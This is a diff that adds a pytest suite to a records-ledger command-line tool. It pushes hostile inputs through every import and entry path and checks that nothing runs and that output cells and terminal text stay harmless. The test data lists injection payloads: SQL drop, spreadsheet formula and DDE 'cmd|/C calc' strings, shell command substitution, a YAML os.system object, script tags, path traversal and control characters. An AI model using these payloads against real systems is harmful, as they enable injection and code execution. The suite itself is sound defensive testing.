@@ -1,0 +1,255 @@
+"""Hostile values through every way into the ledger and out of every output: nothing executed, nothing broken."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import re
+import sys
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import NamedTuple
+
+import pytest
+from importing_help import joined
+from offer import cli
+from offer.engine import library
+
+ROOT = Path(__file__).parent.parent
+VALUES = {
+    "quotes": """O'Brien "the \\ head" `x` ''""",
+    "sql": "x'); DROP TABLE entry; --",
+    "formula =": '=HYPERLINK("http://example.org/?"&A1,"x")',
+    "formula +": "+44 7700 900000",
+    "formula -": "-1+cmd|' /C calc'!A0",
+    "formula @": "@SUM(1+1)*cmd",
+    "markup": "<script>alert(1)</script>&amp;<!-- ]]>",
+    "path": "../../../etc/passwd",
+    "windows path": "..\\..\\CON",
+    "shell": "$(touch pwned) `touch pwned` ; touch pwned",
+    "template": "{{7*7}} %s %n {0} ${HOME}",
+    "yaml": "*x: &y !!python/object/apply:os.system ['touch pwned'] # ---",
+    "line breaks": "A\r\nB\nC\u2028D\u0085E",
+    "escape sequences": "\x1b[31mred\x1b]0;title\x07\x9b2J\x08\x7f",
+    "nul": "A\x00B",
+    "right to left": "\u202egnp.exe\u202c \u200f\u2066x\u2069",
+    "hidden": "A\u200bB\u00adC\ufeffD\u2060",
+    "long": "N" * 10_000,
+    "long words": "name " * 2_000,
+    "wide": "名前🙂e\u0301\U0010ffff",
+    "only spaces": " \t\u00a0 ",
+    "words of ours": "null",
+}
+SAFE_OUT = re.compile(
+    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ud800-\udfff]"
+)
+
+
+class Result(NamedTuple):
+    code: int
+    out: str
+    err: str
+
+
+Run = Callable[..., Result]
+
+
+@pytest.fixture
+def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Run:
+    """Run one command in this process, in a folder of its own; hold whatever it says to be harmless."""
+    monkeypatch.chdir(tmp_path)
+    for name in [*os.environ]:
+        if name.startswith("OFFER_"):
+            monkeypatch.delenv(name)
+    monkeypatch.setenv("COLUMNS", "100")
+    monkeypatch.setenv("OFFER_PROGRAMMES", str(ROOT / "programmes"))
+    monkeypatch.setenv("OFFER_BY", "tests")
+    programmes = library.load_library(
+        ROOT / "programmes", "programmes"
+    )  # once is enough for hundreds of commands
+    monkeypatch.setattr(library, "load_library", lambda folder, display: programmes)
+
+    def call(*args: str) -> Result:
+        monkeypatch.setattr(sys, "argv", ["offer", *args])
+        with pytest.raises(SystemExit) as stop:
+            cli.main()
+        out, err = capsys.readouterr()
+        result = Result(int(stop.value.code or 0), out, err)
+        shown = [re.sub(r"N{50,}", "N...", part) for part in (out, err)]
+        assert result.code in (0, 1, 2), (args, shown)
+        for part in (out.replace("\r\n", "\n") if "--csv" in args else out, err):
+            hidden = SAFE_OUT.search(part)
+            assert hidden is None, (args[:3], hidden, shown)
+        return result
+
+    return call
+
+
+@pytest.fixture
+def ledger(run: Run, tmp_path: Path) -> Iterator[Path]:
+    """A ledger with one setting and one lead; at the end nothing else may have come to be."""
+    added = run(
+        "records", "settings", "add", "137001", "--name", "One", "--attribute", "local_authority=925",
+        "--enrol", "relational-practice=2026-09-07",
+    )  # fmt: skip
+    assert added.code == 0, added
+    assert run("records", "add", "person", "137001", "ak", "--name", "A. Khan", "--role", "lead").code == 0
+    assert run("records", "add", "person", "137001", "bl", "--name", "B. Lowe", "--role", "lead").code == 0
+    yield tmp_path
+    assert not (tmp_path / "pwned").exists()
+
+
+def rows(**columns: str) -> list[list[str]]:
+    return [list(columns), list(columns.values())]
+
+
+def sheet(run: Run, folder: Path, **columns: str) -> Result:
+    text = joined(rows(**columns), ",")
+    (folder / "sheet.csv").write_bytes(text.encode("utf-8", "surrogatepass"))
+    return run("records", "import", "sheet.csv", "--kind", "spreadsheet")
+
+
+def by_sheet_name(run: Run, folder: Path, value: str) -> None:
+    sheet(
+        run, folder, URN="137001", Name=value, Role="lead", Date="2026-09-24", Activity="connection-training"
+    )
+
+
+def by_sheet_fields(run: Run, folder: Path, value: str) -> None:
+    given = {"URN": "137001", "Person": "ak", "Date": "2026-09-24", "Activity": "connection-training"}
+    for column in (
+        "URN",
+        "Person",
+        "Date",
+        "Activity",
+        "Session",
+        "Note",
+        "Hours",
+        "Email",
+        "Role",
+        "Programme",
+    ):
+        sheet(run, folder, **(given | {column: value}))
+    waiver = {"URN": "137001", "Date": "2026-09-24", "Waive": "awareness.share"}
+    sheet(run, folder, **waiver, By=value, Reason=value)
+    (folder / "sheet.csv").write_bytes(joined([[value, value], ["137001", value]], ",").encode("utf-8"))
+    run("records", "import", "sheet.csv", "--kind", "spreadsheet")
+    run("records", "import", "sheet.csv", "--map", f"{printable(value)}=note", "--kind", "spreadsheet")
+
+
+def by_workbook(run: Run, folder: Path, value: str) -> None:
+    openpyxl = pytest.importorskip("openpyxl", reason="openpyxl is not installed here")
+    from openpyxl.utils.exceptions import IllegalCharacterError
+
+    book = openpyxl.Workbook()
+    try:
+        book.active.append(["URN", "Name", "Role", "Date", "Activity", "Note"])
+        book.active.append([137001, value, "lead", "2026-09-24", "connection-training", value])
+    except IllegalCharacterError:
+        return
+    book.save(folder / "book.xlsx")
+    run("records", "import", "book.xlsx")
+
+
+def by_attendance(run: Run, folder: Path, value: str) -> None:
+    table = [
+        ["Name", "Join Time", "Leave Time", "Duration", "Email", "Role"],
+        [value, "2026-09-24 14:00:00", "2026-09-24 17:00:00", "3h", value, "Attendee"],
+        ["A. Khan", "2026-09-24 14:00:00", "2026-09-24 17:00:00", value, value, value],
+        ["B. Lowe", value, value, "3h", "", "Attendee"],
+    ]
+    summary = [["1. Summary"], ["Meeting title", value], [], ["2. Participants"], *table]
+    for each in (table, summary):
+        content = b"\xff\xfe" + joined(each, "\t").encode("utf-16-le", "surrogatepass")
+        (folder / "report.csv").write_bytes(content)
+        run("records", "import", "report.csv", "--kind", "teams", "--activity", "connection-training",
+            "--session", printable(value)[:60])  # fmt: skip
+
+
+def by_typing(run: Run, folder: Path, value: str) -> None:
+    value = printable(value)
+    add = ("records", "add")
+    run(*add, "person", "137001", "cd", f"--name={value}", f"--email={value}", "--no-input")
+    run(*add, "person", "137001", value, "--name=C", "--no-input")
+    run(*add, "activity", "137001", "connection-training", "--date=2026-09-25", "--people=ak",
+        f"--note={value}", f"--session={value}", "--no-input")  # fmt: skip
+    run(*add, "activity", "137001", value, "--date=2026-09-25", f"--people={value}", "--anyway", "--no-input")
+    run(*add, "attribute", "137001", "trust", value, "--anyway", "--no-input")
+    run(*add, "waive", "137001", "awareness.share", f"--by={value}", f"--reason={value}", "--no-input")
+    run("records", "settings", "change", "137001", f"--name={value}")
+    run("records", "settings", "add", value)
+    run("records", "correct", "1", "--set", f"name={value}", f"--reason={value}")
+    run("records", "correct", "1", "--set", "name=Fine", f"--reason={value}")
+    run("records", "add", "issued", "137001", "inside-im-hurting", "--date=2026-09-30", f"--by={value}")
+
+
+WAYS = {
+    "a name in a spreadsheet": by_sheet_name,
+    "every field of a spreadsheet": by_sheet_fields,
+    "a workbook": by_workbook,
+    "an attendance report": by_attendance,
+    "typing": by_typing,
+}
+
+
+def printable(value: str) -> str:
+    """What the operating system lets an argument be."""
+    return value.replace("\x00", "")
+
+
+@pytest.mark.parametrize("way", WAYS)
+def test_nothing_hostile_gets_through(run: Run, ledger: Path, way: str) -> None:
+    for value in VALUES.values():
+        WAYS[way](run, ledger, value)
+    out_of_every_output(run, ledger)
+
+
+def out_of_every_output(run: Run, folder: Path) -> None:
+    for command in (
+        ("status",),
+        ("status", "137001"),
+        ("next",),
+        ("why", "137001", "awareness"),
+        ("eligibility", "137001"),
+        ("records", "log", "137001"),
+        ("records", "people"),
+        ("records", "settings"),
+        ("records", "check"),
+    ):
+        shown = run(*command)
+        assert shown.out, (command, shown.err)
+        for line in run(*command, "--json").out.splitlines():
+            assert isinstance(json.loads(line), (dict, list))
+    table = run("status", "--csv")
+    assert table.code == 0
+    held_cells(table.out)
+
+
+def held_cells(text: str) -> None:
+    """No cell that a spreadsheet would take for a formula."""
+    for row in csv.reader(io.StringIO(text, newline="")):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+@pytest.mark.parametrize("value", VALUES)
+def test_asking_for_something_hostile(run: Run, ledger: Path, value: str) -> None:
+    """Ids, names and files that are asked for lead nowhere, and the message is harmless."""
+    asked = printable(VALUES[value])
+    before = (ledger / "offer.db").read_bytes()
+    for args in (
+        ("status", "--", asked),
+        ("why", "137001", "--", asked),
+        ("records", "log", "--", asked),
+        ("records", "people", "--search", asked),
+        ("records", "settings", "search", "--", asked),
+        ("records", "import", "--", asked),
+        ("records", "import", "offer.db", "--activity", asked, "--kind", "teams"),
+        ("records", "forget", "--yes", "--", asked),
+        ("status", "--programme", asked),
+    ):
+        run(*args)
+    assert sorted(os.listdir(ledger)) == ["offer.db"]
+    assert (ledger / "offer.db").read_bytes() == before
